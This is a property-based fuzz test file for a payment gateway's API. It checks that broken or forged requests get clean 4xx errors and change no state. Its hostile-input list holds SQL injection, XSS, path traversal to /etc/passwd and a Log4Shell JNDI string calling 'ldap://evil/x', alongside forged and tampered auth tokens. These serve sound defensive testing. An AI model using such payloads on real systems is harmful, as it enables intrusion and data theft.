/**
 * Property-based hostile input for EVERY gateway endpoint (issue 9).
 *
 * Each generated request starts from a valid request for an endpoint and breaks it in at least one
 * way (auth, body, content type, path parameter, Idempotency-Key), with hostile noise on top (SQL,
 * HTML, unicode, prototype keys, odd headers, query junk). For every request:
 * - never a 5xx;
 * - a 4xx carries the documented envelope (`ErrorEnvelopeSchema`), a code from the closed set, the
 *   status `ERROR_STATUS` maps it to, and the request id of the `x-request-id` header;
 * - a mutating endpoint never answers 2xx (the request was broken on purpose);
 * - nothing changed: every table's content, the ATMOS sandbox ledger and request log, the job queue.
 * The ATMOS callback answers in ATMOS's own shape (`{status: 0}` for a forged one) and records each
 * callback it receives, so for it only `provider_callbacks` may grow.
 *
 * The endpoint list is read from the app's own OpenAPI document, so a new endpoint is fuzzed too
 * (with broken credentials) even before it gets a template here.
 */
// First: zod-openapi extends zod before any contract schema is built (as the app's own imports do).
import "@hono/zod-openapi";
import { randomUUID } from "node:crypto";
import { ERROR_STATUS, ErrorEnvelopeSchema } from "@obuna/contracts/errors";
import { AtmosCallbackResponseSchema, TelegramIdSchema } from "@obuna/contracts/http";
import { signInitData } from "@obuna/contracts/testing";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BOT_TOKEN, INTERNAL_TOKEN } from "./constants";
import {
  apply,
  createSession,
  type Harness,
  internalAuth,
  prepareSession,
  randomTelegramId,
  SANDBOX_CARDS,
  startHarness,
  tma,
} from "./harness";

let h: Harness;
/** Requests sent by this file (the CI floor is 5 000). */
let sent = 0;
const MIN_REQUESTS = 5_000;
const RUNS_PER_ENDPOINT = 340;

// ------------------------------------------------------------------ fixtures

interface Fixtures {
  user: number;
  other: number;
  /** Pending session of `user`, no ATMOS transaction yet. */
  pendingSession: string;
  amount: number;
  /** Session of `user` with an ATMOS transaction created (pre-apply/apply/resend-otp target). */
  createdSession: string;
  transactionId: number;
  subscriptionId: number;
  cardId: number;
}
let fx: Fixtures;
let fixturesDoneAt = new Date();

/** Everything the gateway can change, as one comparable value per table. */
let stateQuery = "";
async function snapshot(options: { ignoreCallbacks?: boolean } = {}) {
  const rows = await h.db.client.unsafe<{ t: string; d: string | null }[]>(stateQuery);
  const tables = Object.fromEntries(
    rows
      .filter((r) => !(options.ignoreCallbacks && r.t === "provider_callbacks"))
      .filter((r) => r.t !== "idempotency_keys")
      .map((r) => [r.t, r.d]),
  );
  // The Idempotency-Key replay cache documents that it keeps the first 4xx answer for a key; it must
  // never hold a 2xx (nothing succeeded) nor a claim left in progress.
  const [cache] = await h.db.client<{ bad: number }[]>`
    select count(*)::int as bad from idempotency_keys
    where (response_status is null or response_status < 400) and created_at > ${fixturesDoneAt.toISOString()}::timestamptz`;
  const counts = await h.queue.getJobCounts();
  return {
    tables,
    idempotencyCacheWithoutA4xx: cache?.bad,
    ledger: JSON.stringify(h.sandbox.ledger()),
    atmosRequests: h.sandbox.requests().length,
    jobs: counts,
  };
}

beforeAll(async () => {
  h = await startHarness();
  const user = randomTelegramId();
  const other = randomTelegramId();
  // A paid session: a subscription and a saved card to aim cancel/resume/delete at.
  const paid = await prepareSession(h, { telegramId: user, autoRenew: true });
  const paidRes = await apply(h, paid);
  if (paidRes.status !== 200) throw new Error(`fixture apply ${paidRes.status}`);
  const subscriptionId = paidRes.body.data.subscription.id as number;
  const cards = await h.app.request(`/api/v1/user/${user}/cards`, { headers: { authorization: tma(user) } });
  const cardId = ((await cards.json()) as { data: { cards: { id: number }[] } }).data.cards[0]!.id;
  const pending = await createSession(h, user);
  const created = await createSession(h, user);
  const session = await h.app.request(`/api/v1/payment/session/${created.session_id}`, {
    headers: { authorization: tma(user) },
  });
  const amount = ((await session.json()) as { data: { amount: number } }).data.amount;
  const atmosCreate = await h.app.request("/api/v1/atmos/create", {
    method: "POST",
    headers: { authorization: tma(user), "content-type": "application/json" },
    body: JSON.stringify({ session_id: created.session_id, amount, auto_renew: false }),
  });
  const transactionId = ((await atmosCreate.json()) as { data: { transaction_id: number } }).data
    .transaction_id;
  await createSession(h, other);
  fx = {
    user,
    other,
    pendingSession: pending.session_id,
    amount,
    createdSession: created.session_id,
    transactionId,
    subscriptionId,
    cardId,
  };
  fixturesDoneAt = new Date();
  const tables = await h.db.client<
    { tablename: string }[]
  >`select tablename from pg_tables where schemaname = 'public' order by tablename`;
  stateQuery = tables
    .map(
      ({ tablename }) =>
        `select '${tablename}' as t, md5(coalesce(string_agg(x::text, '|' order by x::text), '')) as d from "${tablename}" x`,
    )
    .join(" union all ");
}, 60_000);

afterAll(async () => {
  // Generated values can happen to be 16-digit Luhn numbers (a random `amount` of a forged callback
  // is recorded as received); they are not card numbers we handled, so they do not stay behind for
  // the suite's card-number scan (zz.no-card-numbers).
  if (h) {
    const since = fixturesDoneAt.toISOString();
    await h.db.client`delete from provider_callbacks where received_at > ${since}::timestamptz`;
    await h.db.client`delete from idempotency_keys where created_at > ${since}::timestamptz`;
  }
  await h?.close();
});

// ------------------------------------------------------------------ hostile values

const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "1; DROP TABLE users; --",
  "'); delete from payments; --",
  "\\x27 union select pan from bound_cards --",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "$" + "{jndi:ldap://evil/x}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "%00",
  "\u0000",
  "\u202eevil",
  "😀💳🔥",
  "ﷺ𒐫𒈙",
  "Ω≈ç√∫˜µ≤",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "-1",
  "1e309",
  "0x1F",
  " ",
  "",
  "__proto__",
  "constructor",
  "4111 1111 1111 1111 and more",
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 200, maxLength: 3_000 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }).map((s) => `${s}\u0000${s}`) },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(-1, 0, -0, 0.5, -2_900_000, 1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 63, -(2 ** 63)),
  fc.double(),
  fc.integer({ min: -2_000_000_000, max: 0 }),
  fc.integer(),
);

/** Any JSON value of the wrong kind, a hostile string, a hostile number. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [1, 2], { $gt: "" }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Header values must be bytes 0x20-0xFF (no CR/LF); hostile within that. */
const headerChar = fc.integer({ min: 0x20, max: 0xff }).map((c) => String.fromCharCode(c));
const headerString = fc.oneof(
  fc.constantFrom("' OR 1=1 --", "<script>", "ÿÿÿ", "..%2f..%2f", "\t", "x".repeat(4_000)),
  fc.string({ unit: headerChar, maxLength: 120 }),
);

function tamperedTma(user: number): string {
  return tma(user).replace(`%22id%22%3A${user}`, `%22id%22%3A${user + 1}`);
}

/** Credentials that must never pass: none, garbage, wrong token, forged/expired/tampered initData. */
function brokenAuth(
  fixtures: () => Fixtures,
  options: { otherUser?: boolean } = {},
): fc.Arbitrary<string | undefined> {
  const forged: fc.Arbitrary<string | undefined>[] = [
    fc.constant(undefined),
    fc.constantFrom(
      "",
      "Bearer",
      "Bearer ",
      "Bearer wrong-internal-token-value",
      `Bearer ${INTERNAL_TOKEN}x`,
      `Bearer ${INTERNAL_TOKEN.slice(0, -1)}`,
      INTERNAL_TOKEN,
      `Basic ${Buffer.from(`admin:${INTERNAL_TOKEN}`).toString("base64")}`,
      "tma",
      "tma ",
      "tma user=%7B%7D&hash=00",
      "tma hash=zz&auth_date=1",
      "tma dev:1",
    ),
    headerString.map((s) => `tma ${s}`),
    headerString.map((s) => `Bearer ${s}`),
    headerString,
    fc
      .integer({ min: 1, max: 2_000_000_000 })
      .map((id) => `tma ${signInitData({ id, first_name: "Mallory" }, "999999:forged-bot-token")}`),
    fc.constant(0).map(() => tma(fixtures().user, { authDate: new Date(Date.now() - 2 * 86_400_000) })),
    fc.constant(0).map(() => tma(fixtures().user, { botToken: `${BOT_TOKEN}x` })),
    fc.constant(0).map(() => tamperedTma(fixtures().user)),
  ];
  // Valid initData of another user: the resources the templates aim at belong to `user`.
  if (options.otherUser ?? true) forged.push(fc.constant(0).map(() => tma(fixtures().other)));
  return fc.oneof(...forged);
}

const idempotencyKeyBroken = fc.oneof(
  fc.constantFrom("", " ", "has space", "tab\tkey", "x".repeat(256), "ÿ-key", "key\u00a0"),
  fc.string({ unit: headerChar, minLength: 256, maxLength: 400 }),
  fc.string({ unit: headerChar, maxLength: 40 }).filter((s) => !/^[\x21-\x7e]{1,255}$/.test(s)),
);

const nonJsonContentTypes = [
  "text/plain",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=xyz",
  "application/xml",
  "application/octet-stream",
  "json",
  "application/jsonx",
];

// ------------------------------------------------------------------ endpoint templates

interface FieldSpec {
  /** A value that makes the request (possibly) succeed. */
  valid: () => unknown;
  /** True when a value could still make the request succeed (such values are not "breaking"). */
  accepts: (value: unknown) => boolean;
}

interface Template {
  method: string;
  /** OpenAPI-style path: `/api/v1/payment/session/{session_id}`. */
  path: string;
  auth: () => string | undefined;
  params: Record<string, { valid: () => string; accepts: (value: string) => boolean }>;
  body?: Record<string, FieldSpec>;
  /** The body fields that must be present. */
  required?: string[];
  idempotent: boolean;
}

const eq = (expected: () => unknown) => (value: unknown) => value === expected();
const never = () => false;

function templates(): Template[] {
  const user = () => fx.user;
  const asUser = () => tma(fx.user);
  const userParam = { valid: () => String(fx.user), accepts: (v: string) => v === String(fx.user) };
  return [
    {
      method: "POST",
      path: "/api/v1/payment/create-link",
      auth: () => internalAuth,
      params: {},
      body: {
        telegram_id: { valid: user, accepts: (v) => TelegramIdSchema.safeParse(v).success },
        plan_slug: {
          valid: () => "monthly",
          accepts: (v) => typeof v === "string" && ["monthly", "quarterly", "yearly"].includes(v),
        },
        first_name: {
          valid: () => "Test",
          accepts: (v) => v == null || (typeof v === "string" && v.length <= 256),
        },
      },
      required: ["telegram_id", "plan_slug"],
      idempotent: true,
    },
    {
      method: "GET",
      path: "/api/v1/payment/session/{session_id}",
      auth: asUser,
      params: { session_id: { valid: () => fx.pendingSession, accepts: never } },
      idempotent: false,
    },
    {
      method: "POST",
      path: "/api/v1/atmos/create",
      auth: asUser,
      params: {},
      body: {
        session_id: { valid: () => fx.pendingSession, accepts: eq(() => fx.pendingSession) },
        amount: { valid: () => fx.amount, accepts: eq(() => fx.amount) },
        auto_renew: { valid: () => false, accepts: (v) => typeof v === "boolean" },
      },
      required: ["session_id", "amount", "auto_renew"],
      idempotent: true,
    },
    {
      method: "POST",
      path: "/api/v1/atmos/pre-apply",
      auth: asUser,
      params: {},
      body: {
        session_id: { valid: () => fx.createdSession, accepts: eq(() => fx.createdSession) },
        transaction_id: { valid: () => fx.transactionId, accepts: eq(() => fx.transactionId) },
        card_number: {
          valid: () => SANDBOX_CARDS.humo1.pan,
          // Anything with 12+ digits might be a card the sandbox knows; breaking values have fewer.
          accepts: (v) => typeof v === "string" && (v.match(/\d/g)?.length ?? 0) >= 12,
        },
        expiry: {
          valid: () => SANDBOX_CARDS.humo1.expiry,
          accepts: (v) => typeof v === "string" && (v.match(/\d/g)?.length ?? 0) >= 4,
        },
      },
      required: ["session_id", "transaction_id", "card_number", "expiry"],
      idempotent: true,
    },
    {
      method: "POST",
      path: "/api/v1/atmos/resend-otp",
      auth: asUser,
      params: {},
      body: {
        session_id: { valid: () => fx.createdSession, accepts: eq(() => fx.createdSession) },
        transaction_id: { valid: () => fx.transactionId, accepts: eq(() => fx.transactionId) },
      },
      required: ["session_id", "transaction_id"],
      idempotent: true,
    },
    {
      method: "POST",
      path: "/api/v1/atmos/apply",
      auth: asUser,
      params: {},
      body: {
        session_id: { valid: () => fx.createdSession, accepts: eq(() => fx.createdSession) },
        transaction_id: { valid: () => fx.transactionId, accepts: eq(() => fx.transactionId) },
        otp: { valid: () => "111111", accepts: (v) => typeof v === "string" && /^\d{6}$/.test(v) },
      },
      required: ["session_id", "transaction_id", "otp"],
      idempotent: true,
    },
    { method: "GET", path: "/api/v1/plans", auth: () => undefined, params: {}, idempotent: false },
    {
      method: "GET",
      path: "/api/v1/user/{telegram_id}/payments",
      auth: asUser,
      params: { telegram_id: userParam },
      idempotent: false,
    },
    {
      method: "GET",
      path: "/api/v1/user/{telegram_id}/subscription",
      auth: asUser,
      params: { telegram_id: userParam },
      idempotent: false,
    },
    {
      method: "GET",
      path: "/api/v1/user/{telegram_id}/cards",
      auth: asUser,
      params: { telegram_id: userParam },
      idempotent: false,
    },
    {
      method: "DELETE",
      path: "/api/v1/user/{telegram_id}/cards/{card_id}",
      auth: asUser,
      params: {
        telegram_id: userParam,
        card_id: { valid: () => String(fx.cardId), accepts: (v) => v === String(fx.cardId) },
      },
      idempotent: true,
    },
    {
      method: "POST",
      path: "/api/v1/subscription/{id}/cancel",
      auth: asUser,
      params: {
        id: { valid: () => String(fx.subscriptionId), accepts: (v) => v === String(fx.subscriptionId) },
      },
      idempotent: true,
    },
    {
      method: "POST",
      path: "/api/v1/subscription/{id}/resume",
      auth: asUser,
      params: {
        id: { valid: () => String(fx.subscriptionId), accepts: (v) => v === String(fx.subscriptionId) },
      },
      idempotent: true,
    },
  ];
}

/** An endpoint found in the OpenAPI document without a template: fuzzed with broken credentials only. */
function genericTemplate(method: string, path: string): Template {
  const params = Object.fromEntries(
    // Every value counts as "breaking" here: the credentials are always broken anyway.
    [...path.matchAll(/\{(\w+)\}/g)].map(([, name]) => [name!, { valid: () => "1", accepts: () => false }]),
  );
  return {
    method,
    path,
    auth: () => undefined,
    params,
    body: { anything: { valid: () => "x", accepts: () => true } },
    idempotent: true,
  };
}

// ------------------------------------------------------------------ mutations

type BodyMutation =
  | { kind: "raw"; text: string }
  | { kind: "content-type"; value: string | null }
  | { kind: "field"; field: string; value: unknown }
  | { kind: "drop"; field: string }
  | { kind: "shape"; value: unknown }
  | { kind: "huge"; bytes: number };

interface Mutation {
  auth: { value: string | undefined } | undefined;
  body: BodyMutation | undefined;
  param: { name: string; value: string } | undefined;
  idempotencyKey: string | undefined;
  noise: {
    extraFields: Record<string, unknown>;
    headers: Record<string, string>;
    query: string;
    validIdempotencyKey: boolean;
  };
}

function bodyMutation(t: Template): fc.Arbitrary<BodyMutation | undefined> {
  if (!t.body) return fc.constant(undefined);
  const fields = Object.keys(t.body);
  const options: fc.Arbitrary<BodyMutation>[] = [
    fc
      .oneof(
        fc.constantFrom(
          "{",
          '{"session_id":',
          "{'a':1}",
          '{"a":1,}',
          "[",
          "nul",
          "<xml/>",
          "a=1&b=2",
          "\u0000",
        ),
        fc.string({ maxLength: 200 }),
        fc.jsonValue().map((v) => `${JSON.stringify(v)}}`),
      )
      .map((text) => ({ kind: "raw" as const, text })),
    fc
      .constantFrom<string | null>(null, ...nonJsonContentTypes)
      .map((value) => ({ kind: "content-type" as const, value })),
    fc
      .constantFrom(...fields)
      .chain((field) =>
        hostileValue
          .filter((value) => !t.body![field]!.accepts(value))
          .map((value) => ({ kind: "field" as const, field, value })),
      ),
    fc
      .oneof(fc.constantFrom(null, 1, "text", true, [], [{}]), fc.array(fc.jsonValue(), { maxLength: 3 }))
      .map((value) => ({ kind: "shape" as const, value })),
    fc.integer({ min: 65 * 1024, max: 300 * 1024 }).map((bytes) => ({ kind: "huge" as const, bytes })),
  ];
  const required = t.required ?? [];
  if (required.length > 0) {
    options.push(fc.constantFrom(...required).map((field) => ({ kind: "drop" as const, field })));
  }
  return fc.oneof(...options);
}

function paramMutation(t: Template): fc.Arbitrary<{ name: string; value: string } | undefined> {
  const names = Object.keys(t.params);
  if (names.length === 0) return fc.constant(undefined);
  return fc.constantFrom(...names).chain((name) =>
    fc
      .oneof(
        hostileString.filter((s) => s.length > 0),
        fc.constantFrom(
          "0",
          "-1",
          "1.5",
          "1e3",
          "0x10",
          "9007199254740993",
          "99999999999999999999",
          "%27",
          "%2e%2e",
        ),
        fc.integer({ min: 1, max: 2_000_000_000 }).map(String),
        fc.uuid(),
      )
      .filter((value) => !t.params[name]!.accepts(value))
      .map((value) => ({ name, value })),
  );
}

const noise = fc.record({
  extraFields: fc.dictionary(
    fc.oneof(
      fc.constantFrom("__proto__", "constructor", "status", "user_id", "card_token", "is_admin"),
      fc.string(),
    ),
    hostileValue,
    { maxKeys: 3 },
  ),
  headers: fc.dictionary(
    fc.constantFrom(
      "x-request-id",
      "x-forwarded-for",
      "accept",
      "accept-language",
      "cookie",
      "user-agent",
      "origin",
    ),
    headerString,
    { maxKeys: 3 },
  ),
  query: fc.oneof(
    fc.constant(""),
    fc.dictionary(hostileString, hostileString, { maxKeys: 2 }).map((q) => new URLSearchParams(q).toString()),
  ),
  validIdempotencyKey: fc.boolean(),
});

function mutation(t: Template): fc.Arbitrary<Mutation> {
  return fc
    .record({
      auth: fc.option(
        brokenAuth(() => fx).map((value) => ({ value })),
        { nil: undefined, freq: 2 },
      ),
      body: fc.option(bodyMutation(t), { nil: undefined, freq: 2 }).map((m) => m ?? undefined),
      param: fc.option(paramMutation(t), { nil: undefined, freq: 2 }).map((m) => m ?? undefined),
      idempotencyKey: t.idempotent
        ? fc.option(idempotencyKeyBroken, { nil: undefined, freq: 4 })
        : fc.constant(undefined),
      noise,
    })
    .filter(
      (m) =>
        t.method === "GET" ||
        m.auth !== undefined ||
        m.body !== undefined ||
        m.param !== undefined ||
        m.idempotencyKey !== undefined,
    );
}

function buildRequest(t: Template, m: Mutation) {
  let path = t.path;
  for (const [name, spec] of Object.entries(t.params)) {
    const value = m.param?.name === name ? m.param.value : spec.valid();
    path = path.replace(`{${name}}`, encodeURIComponent(value));
  }
  if (m.noise.query) path += `?${m.noise.query}`;
  const headers: Record<string, string> = { ...m.noise.headers };
  const auth = m.auth ? m.auth.value : t.auth();
  if (auth !== undefined) headers.authorization = auth;
  if (m.idempotencyKey !== undefined) headers["idempotency-key"] = m.idempotencyKey;
  else if (t.idempotent && m.noise.validIdempotencyKey) headers["idempotency-key"] = `fuzz-${randomUUID()}`;
  let body: string | undefined;
  if (t.body) {
    const object: Record<string, unknown> = {};
    for (const [field, spec] of Object.entries(t.body)) object[field] = spec.valid();
    for (const [key, value] of Object.entries(m.noise.extraFields)) {
      if (!(key in t.body)) Object.defineProperty(object, key, { value, enumerable: true, writable: true });
    }
    headers["content-type"] = "application/json";
    const b = m.body;
    if (b?.kind === "field") object[b.field] = b.value;
    if (b?.kind === "drop") delete object[b.field];
    if (b?.kind === "huge") object.padding = "x".repeat(b.bytes);
    body = b?.kind === "raw" ? b.text : JSON.stringify(b?.kind === "shape" ? b.value : object);
    if (b?.kind === "content-type") {
      if (b.value === null) delete headers["content-type"];
      else headers["content-type"] = b.value;
    }
  }
  return { method: t.method, path, headers, body };
}

async function send(request: {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}) {
  sent++;
  const response = await h.app.request(request.path, {
    method: request.method,
    headers: request.headers,
    ...(request.body !== undefined ? { body: request.body } : {}),
  });
  const text = await response.text();
  let json: unknown;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { status: response.status, text, json, requestId: response.headers.get("x-request-id") };
}

function describeRequest(request: {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}) {
  const body = request.body && request.body.length > 300 ? `${request.body.slice(0, 300)}…` : request.body;
  return JSON.stringify({ ...request, body }).slice(0, 1_000);
}

/** The documented error envelope, with the status its code maps to. */
function expectErrorEnvelope(
  response: { status: number; json: unknown; text: string; requestId: string | null },
  context: string,
) {
  expect(response.status, context).toBeGreaterThanOrEqual(400);
  expect(response.status, `${context} → ${response.text.slice(0, 300)}`).toBeLessThan(500);
  const envelope = ErrorEnvelopeSchema.safeParse(response.json);
  expect(envelope.success, `${context} → not the error envelope: ${response.text.slice(0, 300)}`).toBe(true);
  if (!envelope.success) return;
  expect(ERROR_STATUS[envelope.data.error.code], `${context} → ${envelope.data.error.code}`).toBe(
    response.status,
  );
  expect(envelope.data.error.requestId).toBe(response.requestId);
}

async function fuzzTemplate(t: Template, runs: number, seed: number) {
  const before = await snapshot();
  await fc.assert(
    fc.asyncProperty(mutation(t), async (m) => {
      const request = buildRequest(t, m);
      const context = describeRequest(request);
      const response = await send(request);
      if (t.method === "GET" && response.status < 400) {
        expect(response.status, context).toBe(200);
      } else {
        expectErrorEnvelope(response, context);
      }
      expect(await snapshot(), `state changed by ${context}`).toEqual(before);
    }),
    { numRuns: runs, seed, endOnFailure: true },
  );
}

// ------------------------------------------------------------------ tests

describe("hostile input on every endpoint (property-based)", () => {
  it("the templates cover every endpoint in the OpenAPI document", async () => {
    const spec = (await (await h.app.request("/openapi.json")).json()) as {
      paths: Record<string, Record<string, unknown>>;
    };
    const documented = Object.entries(spec.paths).flatMap(([path, ops]) =>
      Object.keys(ops).map((method) => `${method.toUpperCase()} ${path}`),
    );
    const templated = templates().map((t) => `${t.method} ${t.path}`);
    expect(documented).toEqual(expect.arrayContaining(templated));
    expect(documented).toContain("POST /api/v1/atmos/callback");
  });

  for (const [index, t] of templates().entries()) {
    it(`${t.method} ${t.path}: no 5xx, the envelope, no state change`, async () => {
      await fuzzTemplate(t, RUNS_PER_ENDPOINT, 9_000 + index);
    });
  }

  it("endpoints without a template (found in the OpenAPI document) refuse broken credentials", async () => {
    const spec = (await (await h.app.request("/openapi.json")).json()) as {
      paths: Record<string, Record<string, unknown>>;
    };
    const known = new Set(templates().map((t) => `${t.method} ${t.path}`));
    known.add("POST /api/v1/atmos/callback");
    const rest = Object.entries(spec.paths)
      .flatMap(([path, ops]) => Object.keys(ops).map((method) => genericTemplate(method.toUpperCase(), path)))
      .filter((t) => !known.has(`${t.method} ${t.path}`));
    for (const [index, t] of rest.entries()) {
      const before = await snapshot();
      await fc.assert(
        fc.asyncProperty(
          brokenAuth(() => fx, { otherUser: false }),
          paramMutation(t),
          async (auth, param) => {
            const m: Mutation = {
              auth: { value: auth },
              body: undefined,
              param,
              idempotencyKey: undefined,
              noise: { extraFields: {}, headers: {}, query: "", validIdempotencyKey: false },
            };
            const request = buildRequest({ ...t, body: t.method === "GET" ? undefined : t.body }, m);
            const response = await send(request);
            expectErrorEnvelope(response, describeRequest(request));
            expect(await snapshot()).toEqual(before);
          },
        ),
        { numRuns: 60, seed: 7_000 + index, endOnFailure: true },
      );
    }
  });

  it("POST /api/v1/atmos/callback: forged callbacks get status 0 and change nothing but the callback log", async () => {
    const before = await snapshot({ ignoreCallbacks: true });
    const field = fc.oneof(hostileString, hostileNumber, fc.constantFrom(null, true, [], {}));
    const callbackBody = fc.record(
      {
        store_id: fc.oneof(fc.constant("11054"), field),
        transaction_id: fc.oneof(fc.constant(fx.transactionId), field),
        transaction_time: field,
        amount: fc.oneof(fc.constant(fx.amount), field),
        invoice: field,
        account: field,
        sign: fc.oneof(fc.stringMatching(/^[0-9a-f]{32}$/), field),
      },
      { requiredKeys: [] },
    );
    const body = fc.oneof(
      { weight: 5, arbitrary: callbackBody.map((b) => JSON.stringify(b)) },
      { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
      { weight: 1, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v)) },
      {
        weight: 1,
        arbitrary: fc.integer({ min: 65 * 1024, max: 200 * 1024 }).map((n) => `{"sign":"${"a".repeat(n)}"}`),
      },
    );
    const contentType = fc.constantFrom<string | null>(
      "application/json",
      "application/json",
      null,
      "text/plain",
    );
    await fc.assert(
      fc.asyncProperty(body, contentType, noise, async (text, type, n) => {
        const headers: Record<string, string> = { ...n.headers };
        if (type) headers["content-type"] = type;
        const request = { method: "POST", path: "/api/v1/atmos/callback", headers, body: text };
        const response = await send(request);
        const context = describeRequest(request);
        if (response.status === 200) {
          const reply = AtmosCallbackResponseSchema.safeParse(response.json);
          expect(reply.success, `${context} → ${response.text}`).toBe(true);
          expect(reply.data?.status, context).toBe(0);
        } else {
          expectErrorEnvelope(response, context);
        }
        expect(await snapshot({ ignoreCallbacks: true }), `state changed by ${context}`).toEqual(before);
      }),
      { numRuns: RUNS_PER_ENDPOINT, seed: 8_800, endOnFailure: true },
    );
  });

  it("unknown paths, unsupported methods and the operational endpoints", async () => {
    const before = await snapshot();
    const method = fc.constantFrom("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS");
    const path = fc.oneof(
      fc.constantFrom(
        "/api/v1/payment/session",
        "/api/v1/payment/session/",
        "/api/v1/payment/create-link/extra",
        "/api/v2/plans",
        "/api/v1/atmos",
        "/api/v1/user//cards",
        "/api/v1/subscription/1",
        "/api/v1/../../etc/passwd",
        "/healthz",
        "/readyz",
        "/metrics",
        "/openapi.json",
      ),
      hostileString.map((s) => `/api/v1/${encodeURIComponent(s)}`),
      fc.webPath().map((p) => `/api${p}`),
    );
    await fc.assert(
      fc.asyncProperty(method, path, noise, async (m, p, n) => {
        const request = { method: m, path: p, headers: { ...n.headers } };
        const response = await send(request);
        const context = describeRequest(request);
        const operational = ["/healthz", "/readyz", "/metrics", "/openapi.json", "/api/v1/plans"].includes(
          p.replace(/\/$/, ""),
        );
        if (response.status < 400) {
          expect(operational && (m === "GET" || m === "OPTIONS"), `${context} → ${response.status}`).toBe(
            true,
          );
        } else {
          expectErrorEnvelope(response, context);
        }
        expect(await snapshot()).toEqual(before);
      }),
      { numRuns: 300, seed: 6_600, endOnFailure: true },
    );
  });

  // Defects the fuzzing found, kept as fixed cases.
  it("regression: a callback with U+0000 in its fields is refused with status 0, not a 500", async () => {
    const before = await snapshot({ ignoreCallbacks: true });
    const response = await send({
      method: "POST",
      path: "/api/v1/atmos/callback",
      headers: { "content-type": "text/plain" },
      body: JSON.stringify({
        store_id: {},
        transaction_id: "\u0000",
        transaction_time: 9223372036854776000,
        amount: fx.amount,
        invoice: true,
        account: "-1\u0000",
        sign: "\u0000",
      }),
    });
    expect(response.status).toBe(200);
    expect(response.json).toEqual({ status: 0, message: "Invalid signature" });
    expect(await snapshot({ ignoreCallbacks: true })).toEqual(before);
  });

  it("U+0000 in strings that reach the database never gives a 500", async () => {
    const nul = "a\u0000b";
    const slug = await send({
      method: "POST",
      path: "/api/v1/payment/create-link",
      headers: { authorization: internalAuth, "content-type": "application/json" },
      body: JSON.stringify({ telegram_id: fx.user, plan_slug: nul }),
    });
    expectErrorEnvelope(slug, "plan_slug with NUL");
    const name = await send({
      method: "POST",
      path: "/api/v1/payment/create-link",
      headers: { authorization: internalAuth, "content-type": "application/json" },
      body: JSON.stringify({
        telegram_id: fx.other,
        plan_slug: "monthly",
        first_name: nul,
        username: nul,
        language_code: nul,
      }),
    });
    expect(name.status, name.text).toBeLessThan(500);
  });

  it(`sent at least ${MIN_REQUESTS} generated requests`, () => {
    console.info(`fuzz: ${sent} requests`);
    expect(sent).toBeGreaterThanOrEqual(MIN_REQUESTS);
  });
});
